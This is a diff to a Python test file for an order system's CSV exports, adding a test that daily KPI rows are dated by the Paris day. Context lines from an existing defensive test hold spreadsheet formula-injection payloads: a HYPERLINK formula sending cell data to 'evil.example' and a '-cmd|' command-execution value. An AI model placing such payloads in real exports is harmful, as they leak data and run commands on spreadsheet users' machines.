@@ -14,6 +14,7 @@ from oms_core.models import Event, Fulfilment, FulfilmentLine, Order, OrderLine
 from oms_core.services import exports
 
 from .conftest import TEE
+from .test_kpis import PARIS_DAYS, orders_through_a_paris_day
 
 ORDERS = 10_000
 START = datetime(2026, 1, 1, tzinfo=UTC)
@@ -147,3 +148,13 @@ def test_text_a_spreadsheet_would_run_is_exported_as_text(network):
     assert row["customer_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
     assert row["external_ref"] == "'-cmd|' /C calc'!A0"
     assert row["customer_phone"] == "+33 6 00 00 00 00" and row["total_value"] == "19.90"
+
+
+@pytest.mark.parametrize("day", PARIS_DAYS, ids=str)
+def test_the_daily_kpis_export_dates_orders_on_the_paris_day(network, monkeypatch, day):
+    """The same three orders in PAR-01's daily KPIs CSV, exported by its manager for that day: two
+    rows, the day before with 1 order and the day with 2. Right: one row, the day, 3 orders."""
+    manager = network.sign_in("PAR-01", "M001", role="manager")
+    period = orders_through_a_paris_day(network, monkeypatch, day)
+    daily = rows(export(network, "kpis", manager, **period))
+    assert [(row["day"], row["orders"]) for row in daily] == [(day.isoformat(), "3")]
